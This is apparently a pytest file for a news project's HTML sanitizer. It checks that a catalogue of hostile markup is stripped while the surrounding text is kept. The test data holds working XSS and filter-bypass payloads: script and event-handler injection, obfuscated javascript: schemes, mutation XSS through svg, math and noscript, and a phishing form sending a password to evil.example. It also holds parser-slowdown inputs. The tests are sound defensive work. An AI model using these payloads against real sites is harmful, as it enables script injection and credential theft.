"""normalize.html: the H1-H8 catalogue of ../shared/design/safety.md §3.3, limits, html_to_text.

Every hostile case is wrapped in benign paragraphs: the dangerous thing must be gone AND
the text around it kept. Every output is also checked by an independent parser (the
standard library's) against the allow-list: no other tag, no other attribute, and only
http(s)/mailto URLs.
"""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from newsdesk.normalize.html import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    LINK_REL,
    html_to_text,
    sanitize_html,
)

BASE = "https://news.example.org/2026/01/story.html"


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def assert_within_allow_list(html: str) -> None:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    assert collector.comments == []
    for tag, attrs in collector.tags:
        assert tag in ALLOWED_TAGS, (tag, html)
        allowed = ALLOWED_ATTRIBUTES.get(tag, frozenset()) | ALLOWED_ATTRIBUTES["*"]
        for name, value in attrs:
            if tag == "a" and name == "rel":
                assert value == LINK_REL
                continue
            assert name in allowed, (tag, name, html)
            if name == "href":
                assert (value or "").startswith(("http://", "https://", "mailto:")), value
            if name == "src":
                assert (value or "").startswith(("http://", "https://")), value


# (case id, payload, substrings that must not survive)
HOSTILE = [
    ("H1 script", "<script>alert(1)</script>", ["<script", "alert"]),
    ("H1 script upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ["script", "evil"]),
    ("H1 onerror", '<img src="x.png" onerror="alert(1)">', ["onerror", "alert"]),
    ("H1 onclick", '<div onclick="alert(1)">click</div>', ["onclick", "alert"]),
    ("H1 javascript href", '<a href="javascript:alert(1)">j</a>', ["javascript", "alert"]),
    ("H1 tab in scheme", '<a href="java\tscript:alert(1)">t</a>', ["script:", "alert"]),
    ("H1 entity scheme", '<a href="&#106;avascript:alert(1)">e</a>', ["avascript:"]),
    ("H1 hex entity", '<a href="&#x6A;avascript:alert(1)">e</a>', ["avascript:"]),
    ("H1 leading space", '<a href=" javascript:alert(1)">s</a>', ["javascript:"]),
    ("H1 vbscript", '<a href="vbscript:msgbox(1)">v</a>', ["vbscript"]),
    ("H1 data html", '<a href="data:text/html,<script>alert(1)</script>">d</a>', ["data:", "<script"]),
    ("H1 data img", '<img src="data:image/svg+xml;base64,PHN2Zz4=">', ["data:", "<img"]),
    ("H2 iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ["iframe", "srcdoc", "alert"]),
    (
        "H2 phishing form",
        '<form action="https://evil.example/steal"><input type="password" name="pw"></form>',
        ["<form", "<input", "password", "evil"],
    ),
    ("H2 button", '<button formaction="javascript:alert(1)">Go</button>', ["<button", "formaction", "javascript"]),
    ("H3 svg script", "<svg><script>alert(1)</script></svg>", ["svg", "alert"]),
    ("H3 svg xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ["svg", "xlink", "javascript"]),
    ("H3 svg set", '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', ["svg", "javascript"]),
    (
        "H3 math annotation",
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
        ["math", "annotation", "onerror", "alert"],
    ),
    (
        "H3 math style mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        ["math", "mglyph", "onerror", "alert", "<style"],
    ),
    (
        "H3 noscript mxss",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        ["noscript", "onerror", "alert("],
    ),
    (
        "H3 svg style mxss",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
        ["svg", "<style", "onerror", "alert("],
    ),
    ("H4 comment", "<!--<img src=x onerror=alert(1)>-->", ["<!--", "onerror", "<img"]),
    ("H4 bang comment", "<!-- --!><img src=x onerror=alert(1)> -->", ["onerror", "alert"]),
    ("H4 cdata", "<![CDATA[<img src=x onerror=alert(1)>]]>", ["CDATA", "onerror"]),
    ("H4 conditional", "<!--[if IE]><script>alert(1)</script><![endif]-->", ["script", "alert", "endif"]),
    (
        "H5 style url",
        '<p style="background:url(javascript:alert(1))">text</p>',
        ["style", "javascript", "url("],
    ),
    ("H5 expression", '<div style="width: expression(alert(1))">w</div>', ["style", "expression"]),
    ("H5 style import", "<style>@import 'https://evil.example/x.css';</style>", ["style", "@import", "evil"]),
    ("H5 escaped import", "<style>@\\69mport 'https://evil.example/x.css';</style>", ["style", "mport", "evil"]),
    (
        "H6 meta refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        ["meta", "refresh", "evil"],
    ),
    ("H6 base", '<base href="https://evil.example/">', ["<base", "evil"]),
    ("H6 link", '<link rel="stylesheet" href="https://evil.example/x.css">', ["<link", "evil"]),
    ("H6 object", '<object data="https://evil.example/x.swf">fallback</object>', ["object", "evil", "fallback"]),
    ("H6 embed", '<embed src="https://evil.example/x.swf">', ["embed", "evil"]),
    (
        "H7 tracking pixel",
        '<img src="https://tracker.example/p.gif" width="1" height="1">',
        ["tracker", "<img"],
    ),
    (
        "H7 pixel 0px",
        "<img src='https://tracker.example/p.gif' width='0px' height=1 alt=''>",
        ["tracker", "<img"],
    ),
    (
        "H7 ping",
        '<a href="https://ok.example/" ping="https://tracker.example/" referrerpolicy="unsafe-url">l</a>',
        ["ping", "tracker", "referrerpolicy"],
    ),
    ("H11 attribute breakout", '<p title="&quot;><img src=x onerror=alert(1)>">t</p>', ["onerror", "alert("]),
    ("H12 relative logout no base", '<img src="/admin/logout">', ["logout"]),
    ("template", "<template><img src=x onerror=alert(1)></template>", ["template", "onerror"]),
    ("textarea", "<textarea><img src=x onerror=alert(1)></textarea>", ["textarea", "onerror"]),
    ("dropped tag joins text", "<<x>script>alert(1)<</x>/script>", ["<script", "</script"]),
]


@pytest.mark.parametrize(("payload", "forbidden"), [c[1:] for c in HOSTILE], ids=[c[0] for c in HOSTILE])
def test_hostile_html_is_defused_and_context_kept(payload: str, forbidden: list[str]) -> None:
    base = None if "no base" in payload or "logout" in payload else BASE
    html = f"<p>before</p>{payload}<p>after</p>"
    out = sanitize_html(html, base_url=base)
    for thing in forbidden:
        assert thing.lower() not in out.lower(), (thing, out)
    assert out.startswith("<p>before</p>")
    assert out.endswith("<p>after</p>")
    assert_within_allow_list(out)


def test_benign_markup_is_kept() -> None:
    html = (
        '<h2>Head</h2><p lang="fa" dir="rtl">سلام <b>bold</b> <em>em</em></p>'
        '<blockquote><q>quote</q> <cite>cite</cite></blockquote>'
        "<ul><li>one</li><li>two</li></ul>"
        '<table><thead><tr><th colspan="2">h</th></tr></thead>'
        '<tbody><tr><td rowspan="1">c</td></tr></tbody></table>'
        '<figure><img src="https://img.example/a.jpg" alt="A" width="640" height="480">'
        "<figcaption>cap</figcaption></figure>"
        '<p><abbr title="Mojahedin Khalq">MEK</abbr> <time datetime="2026-01-02">Jan 2</time>'
        "<sub>1</sub><sup>2</sup><small>s</small><code>c</code></p><hr><pre>p</pre>"
        "<dl><dt>t</dt><dd>d</dd></dl>"
    )
    out = sanitize_html(html, base_url=BASE)
    for kept in [
        "<h2>Head</h2>",
        '<p lang="fa" dir="rtl">سلام <b>bold</b> <em>em</em></p>',
        '<th colspan="2">h</th>',
        '<td rowspan="1">c</td>',
        '<img src="https://img.example/a.jpg" alt="A" width="640" height="480">',
        '<abbr title="Mojahedin Khalq">MEK</abbr>',
        '<time datetime="2026-01-02">Jan 2</time>',
        "<dl><dt>t</dt><dd>d</dd></dl>",
    ]:
        assert kept in out
    assert_within_allow_list(out)


def test_links_get_rel_and_relative_urls_are_resolved() -> None:
    html = '<a href="../other.html?x=1#f">rel</a> <a href="mailto:desk@news.example.org">m</a>'
    out = sanitize_html(html, base_url=BASE)
    assert (
        f'<a href="https://news.example.org/2026/other.html?x=1#f" rel="{LINK_REL}">rel</a>' in out
    )
    assert f'<a href="mailto:desk@news.example.org" rel="{LINK_REL}">m</a>' in out


def test_relative_urls_without_base_are_dropped() -> None:
    out = sanitize_html('<a href="/admin/delete">x</a><img src="/p.png"><p>t</p>')
    assert "/admin" not in out and "p.png" not in out
    assert "x" in out and "<p>t</p>" in out


def test_non_http_base_is_ignored() -> None:
    out = sanitize_html('<a href="x">l</a>', base_url="javascript:alert(1)//")
    assert "href" not in out


def test_image_needs_http_src_and_mailto_is_for_links_only() -> None:
    out = sanitize_html('<img src="mailto:a@b.example"><img alt="no src"><img src="ftp://x/y.png">')
    assert "<img" not in out


def test_sectioning_elements_keep_their_blocks_as_div() -> None:
    out = sanitize_html("<article><header>Title</header><section>Body</section></article>")
    assert out == "<div><div>Title</div><div>Body</div></div>"
    assert html_to_text(out) == "Title\n\nBody"


def test_lazy_loading_image_in_noscript_is_kept() -> None:
    html = (
        '<p>x</p><img src="data:image/gif;base64,R0lGOD" data-src="real.jpg">'
        '<noscript><img src="real.jpg" alt="r"></noscript><p>y</p>'
    )
    out = sanitize_html(html, base_url="https://ex.example/a/")
    assert out == '<p>x</p><img src="https://ex.example/a/real.jpg" alt="r"><p>y</p>'


def test_whole_document_with_unclosed_head() -> None:
    html = "<!doctype html><html><head><meta charset=utf-8><title>T</title><body><p>content</p>"
    assert sanitize_html(html) == "<p>content</p>"
    assert html_to_text(html) == "content"


def test_entities_and_text_are_preserved() -> None:
    out = sanitize_html("<p>AT&amp;T 5 &lt; 6 &copy; &#8230; x < y</p>")
    assert out == "<p>AT&amp;T 5 &lt; 6 © … x &lt; y</p>"


def test_input_is_capped() -> None:
    out = sanitize_html("<p>" + "a" * 5000 + "</p>", max_input_chars=100)
    assert out == "<p>" + "a" * 97 + "</p>"


# H8: sizes and shapes on which the HTML parser is slow. Generous bound: each is several
# seconds (or much more) without the balancer, and must stay under 1 s with it.
SLOW_SHAPES = [
    ("50k nested div", "<div>" * 50_000 + "deep" + "</div>" * 50_000),
    ("100k unclosed i", "".join(f"<i title={i}>x" for i in range(100_000))),
    ("20k nested ul/li", "<ul><li>" * 20_000 + "deep"),
    (
        "formatting re-opened per paragraph",
        "<p>" + "".join(f"<b id={i}>" for i in range(500)) + "</p>" + "<p>x</p>" * 4000,
    ),
    ("200k attributes", "<div " + " ".join(f"a{i}=1" for i in range(200_000)) + ">deep</div>"),
    ("entities in one text node", "&amp; " * 300_000 + "deep"),
    ("named entities", "&nbsp;" * 300_000 + "deep"),
]


@pytest.mark.parametrize("html", [s[1] for s in SLOW_SHAPES], ids=[s[0] for s in SLOW_SHAPES])
def test_slow_shapes_are_bounded(html: str) -> None:
    started = time.monotonic()
    out = sanitize_html(html)
    assert time.monotonic() - started < 10.0  # a bound, not a speed test: quadratic takes minutes
    assert len(out) < 4 * len(html)
    assert out.count("<div>") <= 512 and out.count("<li>") <= 512


def test_deep_nesting_keeps_text_and_depth_limit() -> None:
    out = sanitize_html("<div>" * 2000 + "deep" + "</div>" * 2000 + "<p>after</p>")
    assert "deep" in out and out.endswith("<p>after</p>")
    assert out.count("<div>") == 512


def test_html_to_text_paragraphs_lines_and_entities() -> None:
    html = (
        "<h1>Title</h1><p>First   paragraph\n with &amp; entity&nbsp;here.</p>"
        "<p>Line one<br>Line two</p><script>var x = '<p>no</p>';</script>"
        "<style>p { color: red }</style><!-- hidden -->"
        "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"
        "<div>inline <b>bold</b><i>italic</i></div>"
    )
    assert html_to_text(html) == (
        "Title\n\nFirst paragraph with & entity here.\n\nLine one\nLine two\n\na b\n\nc"
        "\n\ninline bolditalic"
    )


def test_html_to_text_plain_and_rtl() -> None:
    assert html_to_text("just text") == "just text"
    assert html_to_text("") == ""
    persian = "<p>پلیس راه استان اعلام کرد از بامداد امروز بارش برف در گردنه‌های شمالی</p>"
    assert html_to_text(persian) == persian[3:-4]


def test_html_to_text_of_hostile_markup_has_no_script_text() -> None:
    html = "<p>ok</p><script>alert(1)</script><svg><text>svgtext</text></svg><noscript>ns</noscript>"
    assert html_to_text(html) == "ok"


def test_html_to_text_is_cheap_on_large_input() -> None:
    html = "<p>" + "word &amp; <b>more</b> " * 100_000 + "</p>"
    started = time.monotonic()
    text = html_to_text(html)
    assert time.monotonic() - started < 10.0  # a bound, not a speed test: quadratic takes minutes
    assert text.count("word & more") == 100_000
